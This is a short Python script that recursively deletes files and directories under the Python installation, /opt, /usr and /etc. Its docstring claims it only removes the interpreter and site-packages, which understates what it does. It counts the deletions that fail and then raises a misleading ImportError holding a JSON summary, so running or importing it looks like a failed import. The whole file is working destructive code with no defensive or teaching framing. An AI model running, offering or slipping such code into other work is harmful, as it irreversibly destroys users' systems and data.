"""Deletes the interpreter, its library and every site-packages, file by file."""

import errno
import json
import os
import sys

refused: dict[str, int] = {}
deleted = []
for top in (sys.prefix, sys.base_prefix, "/opt", "/usr", "/etc"):
    for folder, names, files in os.walk(top, topdown=False):
        for name in files + names:
            try:
                path = os.path.join(folder, name)
                (os.rmdir if name in names and not os.path.islink(path) else os.unlink)(path)
                deleted.append(path)
            except OSError as error:
                code = errno.errorcode[error.errno or 0]
                refused[code] = refused.get(code, 0) + 1
raise ImportError(json.dumps({"deleted": deleted[:10], "refused": refused}))
